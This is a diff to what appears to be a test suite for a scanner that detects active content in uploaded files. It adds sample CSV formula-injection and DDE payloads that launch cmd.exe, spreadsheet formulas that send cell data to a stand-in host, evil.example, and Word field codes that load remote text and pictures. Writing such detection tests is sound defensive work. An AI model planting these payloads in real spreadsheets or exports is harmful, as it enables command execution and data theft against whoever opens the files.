@@ -216,6 +216,23 @@ ACTIVE = {
     ),
     "a program in a CSV file": (b"name,amount\nAda,=cmd|'/c calc'!A0\n", COMMANDS),
     "a program in a CSV file, later": (b"a;+1+MSEXCEL|'\\..\\cmd.exe /c calc'!A\n", COMMANDS),
+    "a program in a CSV file, with its item in quotes": (b"=cmd|'/c calc'!'A1'\n", COMMANDS),
+    "a program in a CSV file, by its path": (b"1;@'c:\\a b\\cmd.exe'|'/c calc'!A1\n", COMMANDS),
+    **{
+        f"the cell {cell}": (f"name,note\nAda,{cell}\n".encode(), COMMANDS)
+        for cell in (
+            '=WEBSERVICE("http://evil.example/"&A1)', '"=WEBSERVICE(""http://evil.example/"")"',
+            '+WEBSERVICE("http://evil.example")', "-1+webservice (A1)", "@SUM(A1)*2",
+            "@hyperlink(A1)", "=IF(1,A1)", "  =SUM(1+9)", "=+HYPERLINK(A1)",
+            '\t=IMPORTXML("http://evil.example","//a")', "x^=SUM(A1)",
+            "=1+IMAGE(A1)", "=-REGISTER(A1)", "\uff1dSUM(A1)", '=DDE("soffice";"a";"b")',
+        )
+    },
+    "a formula in UTF-16": ("a,b\r\n1,=WEBSERVICE(A1)\r\n".encode("utf-16"), COMMANDS),
+    "a text of old Word that is loaded": (OLE + b"\x13 INCLUDETEXT http://a.example", COMMANDS),
+    "a picture of old Word that is loaded": (
+        OLE + ' \x13 INCLUDEPICTURE "http://a.example" '.encode("utf-16-le"), COMMANDS,
+    ),
     "macros in other letters": (OLE + "_vba_Project".encode("utf-16-le"), MACROS),
     "a sheet of macros": (
         OLE + bytes.fromhex("8500 0e00 00000000 00 01 06 00") + b"Macro1", MACROS,
@@ -240,6 +257,8 @@ GOOD = [
     OLE + bytes.fromhex("8500 0e00 00000000 00 00 06 00") + b"Sheet1",
     rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\datastore 0105}\f0 Hello \b Ada\b0\par}",
     b'a,b\n-5|6,e-mail|call us now!\nx-ray|wow!\n=A1&"|"\n',
+    b"day,amount,phone\n2026-01-02,-12.50,+1 415 555 0100\n2026-01-03,+7,@ada (owner)\n",
+    b"Owner(s):\n- item (a)\n=====\nA = B(c); call (212) 555-0100, image(s), a@b.example (Ada)\n",
     b"ID;Product\nB;Bread\n",
     b"name,amount\nimport goods from China,1 < 2 && a > b\n" * 9000,
     b"<?xml version='1.0'?><invoice>" + b"<total>1</total>" * 9000 + b"</invoice>",
